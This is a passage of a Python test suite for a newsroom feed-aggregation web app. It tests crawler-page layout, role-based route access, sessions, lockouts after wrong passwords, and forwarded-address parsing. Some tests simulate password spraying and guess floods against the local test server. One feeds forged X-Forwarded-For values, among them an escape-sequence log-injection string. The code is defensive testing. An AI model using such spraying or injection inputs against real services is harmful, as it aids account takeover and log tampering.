    "refused feeds.internal.example: it resolves to a private address (10.0.12.7); set "
    "VESTI_ALLOW_PRIVATE_NETWORKS=1 to allow links and redirects there",
    "cannot resolve host ([Errno -2] Name or service not known)",
    "no entries: the answer is not a feed (<unknown>:2:0: syntax error; the server sent "
    "text/html, 48213 bytes, starting '<!DOCTYPE html><html lang=\"en\"><head><title>"
    "Just a moment...</title>')",
    "HTTP 503 Service Unavailable",
]


def feed_etag(k):
    return f'W/"5f2b{k:04x}-6a1c9e8d7f3b2a10c4d5e6f7a8b9"'


def realistic_sources(web):
    """27 sources as a newsroom has them (the corpus' real feeds' names):
    every fifth failing with an error of the kinds VESTI records, feeds with
    their ETag, Last-Modified and lastBuildDate, a few channels never fetched."""
    feeds = dict((line.split("\t")[0].split("__")[1].rsplit(".", 1)[0].lower(),
                  line.split("\t")[-1]) for line in
                 (CORPUS / "feeds" / "real" / "MANIFEST.tsv").read_text().splitlines()[1:])
    sources = [rss_source(re.sub(r"[^a-z0-9]+", "-", stem), f"https://{stem}.example/feed",
                          name=title or stem, priority=k % 3)
               for k, (stem, title) in enumerate(list(feeds.items())[:27])]
    for source in sources[-3:]:
        source.update(crawler="telegram", url="https://t.me/" + source["slug"].replace("-", "_"))
    write_sources(web.settings.sources, sources)
    vesti.sync_sources(web.db.conn(), vesti.load_registry(web.settings.sources))
    conn = web.db.conn()
    for k, source in enumerate(sources):
        source_id = source_row(web.db, source["slug"])["id"]
        if source["crawler"] == "telegram":
            continue
        conn.execute("UPDATE sources SET last_fetch = ?, error_count = ?, last_error = ? "
                     "WHERE id = ?", (ago(600 + k), 3 if k % 5 == 1 else 0,
                                      CRAWLER_ERRORS[k // 5] if k % 5 == 1 else None, source_id))
        conn.execute("INSERT INTO rss_state (source_id, etag, modified, last_build_date) "
                     "VALUES (?, ?, ?, ?)",
                     (source_id, feed_etag(k),
                      "Tue, 01 Dec 2026 08:30:00 GMT", "Tue, 01 Dec 2026 08:29:41 +0000"))
        conn.execute("INSERT INTO runs (source_id, task, trigger, started_at, status, new_posts) "
                     "VALUES (?, 'rss', 'schedule', ?, 'ok', 3)", (source_id, ago(600 + k)))
    return sources


def test_the_crawlers_page_fits_a_laptop_and_a_phone_with_errors_readable(web, browser):
    sources = realistic_sources(web)
    failing = sources[1]["slug"]
    quiet = sources[-1]["slug"]                      # a channel never fetched: most fields empty
    browser.call("Emulation.setDeviceMetricsOverride", session=True, width=1366, height=768,
                 deviceScaleFactor=1, mobile=False)
    browser.open(web.origin + "/crawlers", {"Authorization": web.auth})
    laptop = browser.evaluate(f"""({{page: document.documentElement.scrollWidth,
        table: document.querySelector('.table').scrollWidth,
        room: document.querySelector('.table').clientWidth, viewport: window.innerWidth,
        error: document.querySelector('#source-{failing} td.error').getBoundingClientRect().width,
        text: document.querySelector('#source-{sources[0]["slug"]}').innerText}})""")
    assert laptop["viewport"] == 1366 and laptop["page"] <= 1366, laptop
    assert laptop["table"] <= laptop["room"], laptop         # nothing cut off at the right
    assert laptop["error"] >= 250, laptop
    for shown in (feed_etag(0), "Tue, 01 Dec 2026 08:30:00 GMT", "Tue, 01 Dec 2026 08:29:41 +0000"):
        assert shown in laptop["text"]
    browser.call("Emulation.setDeviceMetricsOverride", session=True, width=390, height=844,
                 deviceScaleFactor=3, mobile=True)
    browser.open(web.origin + "/crawlers?lang=ru", {"Authorization": web.auth})
    phone = browser.evaluate(f"""(() => {{
        const shown = e => e.getClientRects().length > 0;
        const cells = [...document.querySelectorAll('table.sources td')].filter(shown);
        return {{page: document.documentElement.scrollWidth,
                 height: document.documentElement.scrollHeight,
                 empty: cells.filter(td => !td.textContent.trim()).length,
                 quiet: [...document.querySelectorAll('#source-{quiet} td')].filter(shown)
                        .map(td => td.className),
                 error: document.querySelector('#source-{failing} td.error').innerText,
                 label: getComputedStyle(document.querySelector('#source-{failing} td.error'),
                                         '::before').content}}; }})()""")
    assert phone["page"] <= 390 and phone["empty"] == 0, phone
    assert CRAWLER_ERRORS[0] in phone["error"] and phone["label"] == '"последняя ошибка: "'
    assert "error" not in phone["quiet"] and "alive" in phone["quiet"]
    assert phone["height"] < 27 * 180, phone               # a short card per source


# Web server: editors, roles, sessions ------------------------------------------

def basic(name, password):
    return {"Authorization": "Basic " + base64.b64encode(f"{name}:{password}".encode()).decode()}


# What a browser's request for a page accepts.
PAGE = {"Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"}


def newsroom(web):
    """Three accounts beside the settings' admin: anna (editor), vera
    (viewer), olga (admin)."""
    conn = web.db.conn()
    for name, role in (("anna", "editor"), ("boris", "editor"), ("vera", "viewer"),
                       ("olga", "admin")):
        vesti.add_user(conn, name, role, f"{name}-password", "test", "local")
    return {name: basic(name, f"{name}-password") for name in ("anna", "boris", "vera", "olga")}


def form_token(web, headers):
    """The form token a page gives this account."""
    page = web.get("/", auth=False, headers=headers)[2]
    return re.search(r'id="look" data-token="([0-9a-f]+)"', page)[1]


# Every route, the role it needs (None: no sign-in), and a request that
# passes the cross-site check and the role.
ROUTES = [
    ("GET", "/", "viewer"), ("GET", "/api/posts", "viewer"), ("GET", "/quality", "viewer"),
    ("GET", "/outbox", "viewer"), ("GET", "/crawlers", "viewer"), ("GET", "/api/queue", "viewer"),
    ("GET", "/approved.atom", "viewer"), ("GET", "/approved.json", "viewer"),
    ("GET", "/metrics", "viewer"), ("GET", "/api/looks?ids=1", "viewer"),
    ("POST", "/posts/1/look", "viewer"), ("POST", "/logout", "viewer"),
    ("POST", "/posts/1/status", "editor"), ("POST", "/posts/status", "editor"),
    ("POST", "/publications/1", "editor"),
    ("POST", "/crawlers/reset", "admin"), ("GET", "/users", "admin"), ("POST", "/users", "admin"),
    ("POST", "/users/anna", "admin"),
    ("GET", "/login", None), ("POST", "/login", None), ("GET", "/healthz", None),
]


def test_every_route_is_refused_below_its_role_and_without_a_sign_in(web):
    accounts = newsroom(web)
    conn = web.db.conn()
    classified_posts(conn, 1)
    routed = {(method, re.sub(r"\?.*", "", path)) for method, path, _ in ROUTES}
    for method, pattern, _, _ in web.app.routes:       # the table names every route
        assert any(m == method and pattern.fullmatch(p) for m, p in routed), pattern.pattern
    roles = {"vera": "viewer", "anna": "editor", "olga": "admin"}
    for method, path, needed in ROUTES:
        for name, role in roles.items():
            form = {"token": form_token(web, accounts[name]), "status": "approved",
                    "ids": "1", "action": "now", "role": "viewer"}
            status, _, body = (web.post(path, form, auth=False, headers=accounts[name])
                               if method == "POST" else web.get(path, auth=False, headers=accounts[name]))
            if needed is None:          # its own checks answer (the sign-in's token, …)
                assert "role" not in body, (method, path, name, status, body)
            elif vesti.role_allows(role, needed):
                assert status not in (401, 403), (method, path, name, status, body)
            else:
                assert status == 403 and f"needs the {needed} role" in body, (method, path, name)
        status, headers, _ = (web.post(path, {}, auth=False) if method == "POST"
                              else web.get(path, auth=False))
        if needed is None:
            assert status != 401, (method, path)
        else:
            assert status == 401 and "Basic" in headers["WWW-Authenticate"], (method, path)


def login(web, name, password, headers=None, origin=None):
    """Sign in on /login as a browser does: its form, its cookie, its post."""
    status, answer, page = web.get("/login", auth=False, headers=headers)
    assert status == 200
    nonce = answer["Set-Cookie"].split(";")[0]
    token = re.search(r'name="token" value="([0-9a-f]+)"', page)[1]
    return web.post("/login", {"token": token, "user": name, "password": password, "next": "/?x=1"},
                    auth=False, origin=origin, headers={"Cookie": nonce, **(headers or {})})


def session_of(answer):
    return {"Cookie": answer["Set-Cookie"].split(";")[0]}


def test_an_editor_signs_in_works_signs_out_and_the_session_ends_on_the_server(web):
    newsroom(web)
    status, answer, _ = login(web, "anna", "anna-password")
    assert status == 303 and answer["Location"] == "/?x=1"
    attributes = answer["Set-Cookie"].split("; ")
    assert "HttpOnly" in attributes and "SameSite=Lax" in attributes and "Secure" not in attributes
    signed_in = session_of(answer)
    status, _, page = web.get("/", auth=False, headers=signed_in)
    assert status == 200 and "anna" in page and "Sign out" in page
    token = form_token(web, signed_in)
    assert web.get("/users", auth=False, headers=signed_in)[0] == 403       # an editor
    status, answer, _ = web.post("/logout", {"token": token}, auth=False, headers=signed_in)
    assert status == 303 and answer["Location"] == "/login" and "Max-Age=0" in answer["Set-Cookie"]
    assert web.db.conn().execute("SELECT count(*) FROM sessions").fetchone()[0] == 0
    status, answer, _ = web.get("/", auth=False, headers={**signed_in, **PAGE})   # the old cookie
    assert status == 303 and answer["Location"].startswith("/login")
    events = [tuple(r) for r in web.db.conn().execute(
        "SELECT user_name, action FROM events WHERE action LIKE 'sign%' ORDER BY id")]
    assert events == [("anna", "sign in"), ("anna", "sign out")]
    # Behind an HTTPS proxy the cookie is Secure.
    _, answer, _ = login(web, "anna", "anna-password", headers={"X-Forwarded-Proto": "https"})
    assert "Secure" in answer["Set-Cookie"].split("; ")


def test_a_session_ends_after_its_hours_idle_and_when_the_password_changes(web, home):
    newsroom(web)
    signed_in = session_of(login(web, "anna", "anna-password")[1])
    conn = web.db.conn()
    conn.execute("UPDATE sessions SET last_seen_at = ?", (ago(11 * 3600),))
    assert web.get("/", auth=False, headers=signed_in)[0] == 200            # 11 h: still on
    conn.execute("UPDATE sessions SET last_seen_at = ?", (ago(13 * 3600),))
    assert web.get("/", auth=False, headers={**signed_in, **PAGE})[0] == 303            # 13 h: over
    signed_in = session_of(login(web, "anna", "anna-password")[1])
    result = subprocess.run([*VESTI, "user", "passwd", "anna"], cwd=home, input="a-new-password\n",
                            env=cli_env({"VESTI_DB": BACKEND["db"] or str(home / "vesti.db")}),
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    assert web.get("/", auth=False, headers={**signed_in, **PAGE})[0] == 303
    assert web.get("/", auth=False, headers=basic("anna", "anna-password"))[0] == 401
    assert web.get("/", auth=False, headers=basic("anna", "a-new-password"))[0] == 200
    signed_in = session_of(login(web, "anna", "a-new-password")[1])
    vesti.change_user(conn, "anna", "olga", "127.0.0.1", disabled=True)
    assert web.get("/", auth=False, headers={**signed_in, **PAGE})[0] == 303
    assert web.get("/", auth=False, headers=basic("anna", "a-new-password"))[0] == 401


def test_one_editors_typos_lock_only_them_and_spraying_locks_the_address(web, caplog):
    newsroom(web)
    for _ in range(5):
        assert login(web, "boris", "wrong-guess")[0] == 401
    status, headers, body = login(web, "boris", "boris-password")        # even the right one
    assert status == 429 and int(headers["Retry-After"]) > 0
    assert "Too many wrong passwords for this name" in body and 'name="password"' in body
    # From another address too: the user's name is what is guessed.
    other = http.client.HTTPConnection("127.0.0.1", web.port, timeout=10,
                                       source_address=("127.0.0.2", 0))
    other.request("GET", "/", headers=basic("boris", "boris-password"))
    assert other.getresponse().status == 429
    other.close()
    # Anna, behind the same office address, is not locked out by Boris's typos.
    assert login(web, "anna", "anna-password")[0] == 303
    assert web.get("/", auth=False, headers=basic("anna", "anna-password"))[0] == 200
    warnings = [r.getMessage() for r in caplog.records if "wrong passwords" in r.getMessage()]
    assert len(warnings) == 1 and "wrong-guess" not in warnings[0]
    assert "for user 'boris'" in warnings[0]
    # Spraying many names from one address locks the address.
    for k in range(vesti.ADDRESS_FAILURES - 5):
        assert web.get("/", auth=False, headers=basic(f"name{k % 20}", "guess"))[0] == 401
    assert web.get("/", auth=False, headers=basic("anna", "anna-password"))[0] == 429
    users = web.get("/users")
    assert users[0] == 429                       # the admin's Basic auth too, from this address
    locks = {kind for kind, *_ in vesti.sign_in_locks(web.db.conn())}
    assert locks == {"name", "address"}


def test_behind_a_reverse_proxy_one_strangers_guesses_lock_out_only_the_stranger(web, caplog):
    """A TLS proxy on this machine (the README's set-up) makes every client
    127.0.0.1; it names the client in X-Forwarded-For, which is believed
    from this machine alone. A stranger spraying names locks their own
    address, not the newsroom's."""
    newsroom(web)
    stranger, editor = {"X-Forwarded-For": "203.0.113.9"}, {"X-Forwarded-For": "198.51.100.7"}
    with caplog.at_level(logging.INFO):
        for k in range(vesti.ADDRESS_FAILURES):
            assert web.get("/", auth=False, headers={**basic(f"name{k % 20}", "guess"),
                                                     **stranger})[0] == 401
        assert web.get("/", auth=False, headers={**basic("anna", "anna-password"),
                                                 **stranger})[0] == 429
        assert web.get("/", auth=False, headers={**basic("anna", "anna-password"),
                                                 **editor})[0] == 200
    assert {(kind, key) for kind, key, *_ in vesti.sign_in_locks(web.db.conn())} == \
        {("address", "203.0.113.9")}
    access = [r.getMessage() for r in caplog.records if r.name == "vesti.access"]
    assert any(line.startswith("198.51.100.7 ") for line in access), access[-3:]
    # Believed from this machine only: anyone elsewhere may send the header.
    client = vesti.forwarded_client
    assert client("192.0.2.1", ["198.51.100.7"]) == "192.0.2.1"
    assert client("::1", ["10.0.0.1, 2001:db8::5"]) == "2001:db8::5"
    assert client("::ffff:127.0.0.1", ["198.51.100.7"]) == "198.51.100.7"   # listening on ::
    # The proxy's own value is the last one: what a client put before it is not believed.
    assert client("127.0.0.1", ["203.0.113.50", "198.51.100.66"]) == "198.51.100.66"
    assert client("127.0.0.1", ["198.51.100.7:51234"]) == "198.51.100.7"
    assert client("127.0.0.1", ["[2001:db8::1]:443"]) == "2001:db8::1"
    assert client("127.0.0.1", ["::ffff:203.0.113.77"]) == "203.0.113.77"
    for forged in ("nonsense", "fe80::1%\x1b[2K forged line", "::ffff:1.2.3.4%zone", "1" * 20000):
        assert client("127.0.0.1", [forged]) == "127.0.0.1"
    assert client("127.0.0.1", None) == "127.0.0.1"
    # Clients seen through IPv6 as IPv4 addresses are each their own, not one ::/64.
    assert vesti.address_key("::ffff:203.0.113.77") == "203.0.113.77"
    assert vesti.address_key("2001:db8::1") == "2001:db8::/64"


@both
def test_the_settings_accounts_sessions_end_when_its_password_or_name_changes(home, closing):
    web = closing(Web(home))
    status, answer, _ = login(web, "admin", "s3cret")
    assert status == 303
    cookie = session_of(answer)
    assert web.get("/", auth=False, headers=cookie)[0] == 200
    rows = {row["name"]: row for row in vesti.list_users(web.db.conn())}
    assert rows["admin"]["settings"] == 1 and rows["admin"]["password_hash"].startswith("scrypt:")
    # Restarted with another VESTI_WEB_PASSWORD: the old session is over.
    web = closing(Web(home, settings=make_settings(home, VESTI_WEB_PASSWORD="n3w-secret"),
                      password="n3w-secret"))
    assert web.get("/", auth=False, headers={**cookie, **PAGE})[0] == 303
    assert web.get("/", auth=False, headers=basic("admin", "s3cret"))[0] == 401
    assert web.get("/", auth=False, headers=basic("admin", "n3w-secret"))[0] == 200
    status, answer, _ = login(web, "admin", "n3w-secret")
    cookie = session_of(answer)
    # Renamed (VESTI_WEB_USER=chief): the old name's sessions end, and it is disabled.
    web = closing(Web(home, settings=make_settings(home, VESTI_WEB_PASSWORD="n3w-secret",
                                                   VESTI_WEB_USER="chief"), password="n3w-secret"))
    assert web.get("/", auth=False, headers=cookie)[0] == 401
    assert web.get("/", auth=False, headers=basic("admin", "n3w-secret"))[0] == 401
    assert web.get("/", auth=False, headers=basic("chief", "n3w-secret"))[0] == 200
    listed = cli("user", "list", cwd=home, env={"VESTI_WEB_USER": "chief"}).stdout
    assert "chief: admin (VESTI_WEB_USER, by the settings)" in listed
    assert "admin: admin, disabled" in listed
    # The old name is an account like any other now: enabled again, it may be made an editor.
    conn = web.db.conn()
    vesti.change_user(conn, "admin", "chief", "local", disabled=False)
    assert vesti.change_user(conn, "admin", "chief", "local", role="editor")["role"] == "editor"
    # So is one an older release left marked as the settings' (disabled, never freed).
    conn.execute("UPDATE users SET settings = 1, disabled = 1 WHERE name = 'admin'")
    # And named in other letters, VESTI_WEB_USER's account is the same one, not a second.
    web = closing(Web(home, settings=make_settings(home, VESTI_WEB_PASSWORD="n3w-secret",
                                                   VESTI_WEB_USER="CHIEF"), password="n3w-secret"))
    assert web.get("/", auth=False, headers=basic("CHIEF", "n3w-secret"))[0] == 200
    rows = {row["name"]: row for row in vesti.list_users(conn)}
    assert set(rows) == {"admin", "chief"} and rows["chief"]["settings"] == 1
    assert rows["admin"]["settings"] == 0


def test_an_older_releases_admin_account_keeps_its_sessions_when_its_password_is_the_settings(
        home, closing):
    web = closing(Web(home))
    cookie = session_of(login(web, "admin", "s3cret")[1])
    web.db.conn().execute("UPDATE users SET settings = 0 WHERE name = 'admin'")  # as it was left
    web = closing(Web(home))                                    # the new release starts
    assert web.get("/", auth=False, headers=cookie)[0] == 200
    assert vesti.find_user(web.db.conn(), "admin")["settings"] == 1
    web.db.conn().execute("UPDATE users SET settings = 0 WHERE name = 'admin'")
    web = closing(Web(home, settings=make_settings(home, VESTI_WEB_PASSWORD="n3w-secret"),
                      password="n3w-secret"))
    assert web.get("/", auth=False, headers={**cookie, **PAGE})[0] == 303
    said = [row[0] for row in web.db.conn().execute(
        "SELECT detail FROM events WHERE subject = 'user:admin' ORDER BY id")]
    assert said[-2:] == ["VESTI_WEB_USER's account now, with the password it had",
                         "the settings' password changed; 1 session ended"], said


def test_the_settings_account_stays_an_admin_whoever_tries_to_demote_it(home, closing):
    """SPEC: VESTI_WEB_USER remains an admin account. Not demoted by another
    admin, nor by itself under its name in other letters, nor by `user role`;
    one made a viewer in the database is an admin again at the next start."""
    web = closing(Web(home))
    accounts = newsroom(web)
    for name in ("ADMIN", "Admin"):
        status, _, body = web.post(f"/users/{name}", {"token": web.token(), "action": "role",
                                                      "role": "viewer"})
        assert status == 400 and "demote their own account" in body
    olga = form_token(web, accounts["olga"])
    status, _, body = web.post("/users/admin", {"token": olga, "action": "role", "role": "viewer"},
                               auth=False, headers=accounts["olga"])
    assert status == 400 and "stays an admin" in body
    refused = cli("user", "role", "admin", "--role", "editor", cwd=home)
    assert refused.returncode != 0 and "stays an admin" in refused.stderr
    assert web.get("/users")[0] == 200
    web.db.conn().execute("UPDATE users SET role = 'viewer' WHERE name = 'admin'")
    web = closing(Web(home))                                    # restarted
    status, _, page = web.get("/users")
    assert status == 200 and "admin (the account VESTI_WEB_USER names, admin unless set) is " \
        "always an admin" in page and "Nobody: no name or address" in page
    listed = cli("user", "list", cwd=home).stdout
    assert "admin: admin (VESTI_WEB_USER, by the settings), 0 sessions" in listed
    assert "anna: editor, 0 sessions" in listed


def test_user_list_before_the_first_serve_says_where_the_admins_password_comes_from(home):
    intake(home, [])
    listed = cli("user", "list", cwd=home, env={"VESTI_WEB_PASSWORD": "s3cret"}).stdout
    assert "admin: admin (VESTI_WEB_USER, by the settings; password: VESTI_WEB_PASSWORD's, " \
        "taken in by the next serve or run)" in listed and "s3cret" not in listed
    listed = cli("user", "list", cwd=home).stdout
    assert "admin: admin (VESTI_WEB_USER, by the settings; password: none yet: serve or run " \
        "makes one)" in listed


def test_a_wrong_password_costs_the_same_check_whatever_the_name(web, monkeypatch):
    newsroom(web)
    checked = []
    matches = vesti.password_matches
    monkeypatch.setattr(vesti, "password_matches",
                        lambda password, kept: checked.append(kept) or matches(password, kept))
    for name in ("admin", "anna", "nobody-at-all"):
        checked.clear()
        assert web.get("/", auth=False, headers=basic(name, "wrong-guess"))[0] == 401
        assert len(checked) == 1, name           # one scrypt check each: the time tells nothing
        assert checked[0].startswith("scrypt:")


def test_a_flood_of_wrong_passwords_is_refused_at_once_and_signed_in_pages_do_not_wait(web, monkeypatch):
    newsroom(web)
    status, answer, _ = login(web, "vera", "vera-password")
    vera = session_of(answer)
    matches = vesti.password_matches

    def slow(password, kept):
        time.sleep(0.1)                           # as long as scrypt at its real cost
        return matches(password, kept)
    monkeypatch.setattr(vesti, "password_matches", slow)
    answers = collections.Counter()

    def guesser(k):
        source = f"127.0.{k // 200 + 1}.{k % 200 + 2}"
        for _ in range(5):
            conn = http.client.HTTPConnection("127.0.0.1", web.port, timeout=30,
                                              source_address=(source, 0))
            conn.request("GET", "/", headers=basic(f"guess{k}", "wrong-guess"))
            answers[conn.getresponse().status] += 1
            conn.close()
    guessers = [threading.Thread(target=guesser, args=(k,)) for k in range(30)]
    for thread in guessers:
        thread.start()
    waits = []
    while any(thread.is_alive() for thread in guessers):
        started = time.monotonic()
        assert web.get("/crawlers", auth=False, headers=vera)[0] == 200
        waits.append(time.monotonic() - started)
    for thread in guessers:
        thread.join()
    assert max(waits) < 1.0, sorted(waits)[-5:]
    assert answers[503] > 0 and answers[401] + answers[503] == 150, answers
    assert answers[200] == 0


def test_a_flood_of_guesses_from_one_address_takes_no_turn_of_another(web, monkeypatch):
    """One address has one password check at a time: its other guesses are
    refused at once, so that an editor signing in from elsewhere is checked,
    not told "too many sign-ins" for as long as the guesser keeps at it."""
    accounts = newsroom(web)
    matches = vesti.password_matches

    def slow(password, kept):
        time.sleep(0.1)                           # as long as scrypt at its real cost
        return matches(password, kept)
    monkeypatch.setattr(vesti, "password_matches", slow)
    answers, flooding = collections.Counter(), threading.Event()

    def guesser(k):
        for n in itertools.count():
            if flooding.is_set():
                return
            conn = http.client.HTTPConnection("127.0.0.1", web.port, timeout=30,
                                              source_address=("127.0.0.7", 0))
            conn.request("GET", "/api/queue", headers=basic(f"guess{k}", f"wrong-{n}"))
            answers[conn.getresponse().status] += 1
            conn.close()
    guessers = [threading.Thread(target=guesser, args=(k,)) for k in range(8)]
    for thread in guessers:
        thread.start()
    time.sleep(0.3)
    signed_in = []
    for name in ("anna", "vera", "olga"):
        conn = http.client.HTTPConnection("127.0.0.1", web.port, timeout=30,
                                          source_address=("127.0.0.9", 0))
        conn.request("GET", "/api/queue", headers=accounts[name])
        signed_in.append(conn.getresponse().status)
        conn.close()
    flooding.set()
    for thread in guessers:
        thread.join()
    assert signed_in == [200, 200, 200], (signed_in, answers)
    assert answers[503] > answers[401] > 0, answers
    # An editor whose sign-in meets another from the same address (an office
    # behind one address) gets the form again, saying why, not a bare page.
    web.app.checking.add("127.0.0.1")
    status, headers, page = login(web, "anna", "wrong-password")
    assert status == 503 and headers["Retry-After"] == "5" and 'name="password"' in page
    assert "another sign-in is being checked" in page
    web.app.checking.discard("127.0.0.1")
    assert login(web, "anna", "anna-password")[0] == 303


def test_a_browser_is_sent_to_the_sign_in_page_and_a_script_gets_the_challenge(web):
    status, answer, _ = web.get("/?direction=linux", auth=False, headers=PAGE)
    assert status == 303 and answer["Location"] == "/login?next=%2F%3Fdirection%3Dlinux"
    assert "WWW-Authenticate" not in answer
    status, answer, _ = web.get("/approved.atom", auth=False)
    assert status == 401 and answer["WWW-Authenticate"].startswith("Basic")
    assert web.get("/", headers=PAGE)[0] == 200      # Basic auth works for browsers too
    # A page's background request after its session ended: told, never challenged.
    stale = {"Cookie": "vesti_session=gone", "Accept": "application/json"}
    status, answer, body = web.get("/api/looks?ids=1", auth=False, headers=stale)
    assert status == 401 and "WWW-Authenticate" not in answer and "sign in again" in body


def test_pages_offer_only_what_the_role_can_do(web):
    accounts = newsroom(web)
    conn = web.db.conn()
    for k in range(3):
        desk_post(conn, lwn(web), k)
    viewer = web.get("/", auth=False, headers=accounts["vera"])[2]
    assert 'class="actions bulk"' not in viewer and 'class="decide"' not in viewer
    editor = web.get("/", auth=False, headers=accounts["anna"])[2]
    assert 'class="actions bulk"' in editor
    assert 'action="/crawlers/reset"' not in web.get("/crawlers", auth=False,
                                                        headers=accounts["anna"])[2]
    assert 'action="/crawlers/reset"' in web.get("/crawlers", auth=False,
                                                    headers=accounts["olga"])[2]


@both
def test_user_names_are_letters_of_any_script_and_unique_whatever_their_case(web):
    conn = web.db.conn()
    vesti.add_user(conn, "Анна", "editor", "anna-password", "test", "local")
    with pytest.raises(vesti.ConfigError, match="exists already"):
        vesti.add_user(conn, "анна", "editor", "other-password", "test", "local")
    vesti.add_user(conn, "anna", "editor", "anna-password", "test", "local")
    with pytest.raises(vesti.ConfigError, match="exists already"):
        vesti.add_user(conn, "Anna", "viewer", "other-password", "test", "local")
    for bad in ("a b", "/x", "_x", "x" * 65, ""):
        with pytest.raises(vesti.ConfigError):
            vesti.add_user(conn, bad, "editor", "long-enough", "test", "local")
    assert web.get("/", auth=False, headers=basic("АННА", "anna-password"))[0] == 200
    status, answer, _ = login(web, "анна", "anna-password")
    assert status == 303
    page = web.get("/", auth=False, headers=session_of(answer))[2]
    assert "Анна" in re.search(r'<span class="account[^>]*>(.*?)</span>', page)[1]
    token = form_token(web, basic("admin", "s3cret"))
    assert web.post("/users/" + urllib.parse.quote("Анна"), {"token": token, "action": "disable"})[0] == 303
    assert vesti.find_user(conn, "анна")["disabled"] == 1


@both
def test_accounts_an_older_release_let_differ_only_in_case_are_named_with_what_to_do(home):
    """An older release let "anna" and "Anna" both be made: each still signs
    in by its own name, and `user list` names the pair and what to do."""
    s, db = intake(home, [])
    conn = db.conn()
    vesti.add_user(conn, "anna", "editor", "anna-password", "test", "local")
    vesti.add_user(conn, "vera", "editor", "vera-password", "test", "local")
    kept = vesti.find_user(conn, "anna")["password_hash"]
    with vesti.transaction(conn):                   # as the older release made it
        conn.execute("INSERT INTO users (name, name_key, role, password_hash) VALUES (?, ?, ?, ?)",
                     ("Anna", "anna", "viewer", kept))
    web = Web(home, settings=s)
    try:
        assert web.get("/", auth=False, headers=basic("anna", "anna-password"))[0] == 200
        assert web.get("/", auth=False, headers=basic("Anna", "anna-password"))[0] == 200
    finally:
        web.close()
    [first] = [name for name in ("Anna", "anna") if vesti.find_user(conn, "ANNA")["name"] == name]
    listed = cli("user", "list", cwd=home).stdout
    said = [line for line in listed.splitlines() if "differ only" in line]
    assert said == [f"the accounts {', '.join(sorted({'Anna', 'anna'}, key=lambda n: n != first))} "
                    f"differ only in how their names are written: each signs in only by its name "
                    f"exactly as written here, any other spelling as {first}; keep one and disable "
                    f"the others (user disable NAME)"], listed
    # Done as said: the name is one account's again, whatever its spelling.
    cli("user", "disable", "Anna", cwd=home)
    assert vesti.find_user(conn, "Anna")["disabled"] and not vesti.find_user(conn, "anna")["disabled"]
    assert "differ only" not in cli("user", "list", cwd=home).stdout
    web = Web(home, settings=s)
    try:
        assert web.get("/", auth=False, headers=basic("ANNA", "anna-password"))[0] == 200
        assert web.get("/", auth=False, headers=basic("Anna", "anna-password"))[0] == 401
    finally:
        web.close()


def test_russian_pages_say_a_sources_state_its_runs_and_the_audit_in_russian(web):
    conn = web.db.conn()
    run = vesti.start_run(conn, lwn(web), "rss", "schedule")
    vesti.finish_run(conn, run, "ok", 20)
    vesti.record_event(conn, "anna", "127.0.0.1", "sign in")
    crawlers = web.get("/crawlers?lang=ru")[2]
    row = re.search(r'<tr id="source-lwn">.*?</tr>', crawlers)[0]
    assert ">работает<" in row and "по расписанию: успешно, +20" in row
    assert "alive" not in row.replace('class="alive', "") and "schedule" not in row
    assert ">вход<" in web.get("/users?lang=ru")[2]


def test_the_page_listens_on_ipv6(home, request):
    write_sources(home / "sources.yaml", [])
    settings = make_settings(home, VESTI_WEB_PASSWORD="s3cret")
    registry, db = vesti.open_intake(settings)
    try:
        server = vesti.make_web_server(vesti.WebApp(db, settings, registry, "s3cret"), "::1", 0)
    except vesti.ConfigError as e:
        pytest.skip(f"no IPv6 loopback here: {e}")
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()

    request.addfinalizer(lambda: vesti.stop_web(server))
    conn = http.client.HTTPConnection("::1", server.server_address[1], timeout=10)
    conn.request("GET", "/", headers=basic("admin", "s3cret"))
    assert conn.getresponse().status == 200


def test_the_report_cards_chart_has_its_labels_inside_it_and_the_card_fits_a_phone(home, browser,
                                                                                   closing):
    s, db = rocket_desk(home)
    web = closing(Web(home, settings=s))
    for width in (1200, 390):
        browser.call("Emulation.setDeviceMetricsOverride", session=True, width=width,
                     height=844, deviceScaleFactor=1, mobile=width < 600)
        browser.open(web.origin + "/quality", {"Authorization": web.auth})
        chart = browser.evaluate("""(() => {
            const svg = document.querySelector('svg.calibration'), r = svg.getBoundingClientRect();
            const texts = [...svg.querySelectorAll('text')].map(t => {
                const b = t.getBoundingClientRect();
                return {text: t.textContent, inside: b.left >= r.left - 1 && b.right <= r.right + 1
                        && b.top >= r.top - 1 && b.bottom <= r.bottom + 1}; });
            return {role: svg.getAttribute('role'), label: svg.getAttribute('aria-label'),
                    width: r.width, texts: texts, page: document.documentElement.scrollWidth,
                    caption: svg.closest('figure').querySelector('figcaption').textContent};
            })()""")
        assert chart["role"] == "img" and "diagonal" in chart["label"]
        assert all(t["inside"] for t in chart["texts"]), (width, chart["texts"])
        labels = {t["text"] for t in chart["texts"]}
        assert {"0", "0.2", "1", "0 %", "50 %", "100 %", "the chance the model gave (likely "
                "approved)", "approved by the editors", "24", "14", "22"} <= labels, labels
        assert "a chance of 0.7 approved 7 times in 10" in chart["caption"]
        assert chart["width"] >= min(400, width - 60) and chart["page"] <= width, (width, chart)


def test_a_signed_out_desk_says_so_without_a_password_box_and_the_users_page_fits_a_phone(web, browser):
    accounts = newsroom(web)
    conn = web.db.conn()
    desk_post(conn, lwn(web), 1)
    browser.call("Page.addScriptToEvaluateOnNewDocument", session=True, source=(
        "const every = window.setInterval;"
        "window.setInterval = (f, ms, ...a) => every(f, ms / 10, ...a);"))
    browser.open(web.origin + "/login", {})
    browser.evaluate("document.querySelector('input[name=user]').value = 'olga';"
                     "document.querySelector('input[name=password]').value = 'olga-password';")
    browser.events.clear()
    browser.evaluate("document.querySelector('form.login button').click()")
    browser.wait_for_load()
    assert browser.evaluate("location.pathname") == "/"
    conn.execute("DELETE FROM sessions")                   # it ends on the server (12 h, disabled)
    browser.evaluate("fetch('/api/looks?ids=1',{credentials:'same-origin',headers:{'Accept':'application/json'}}).then(r=>window.st=r.status)")
    assert wait_for(lambda: browser.evaluate("!!document.getElementById('signed-out')"), timeout=10)
    banner = browser.evaluate("document.getElementById('signed-out').innerHTML")
    assert "Sign in again" in banner and 'href="/login?next=' in banner
    assert not [e for e in browser.events if e.get("method") == "Page.javascriptDialogOpening"]
    browser.call("Emulation.setDeviceMetricsOverride", session=True, width=390, height=844,
                 deviceScaleFactor=3, mobile=True)
    browser.open(web.origin + "/users", accounts["olga"])
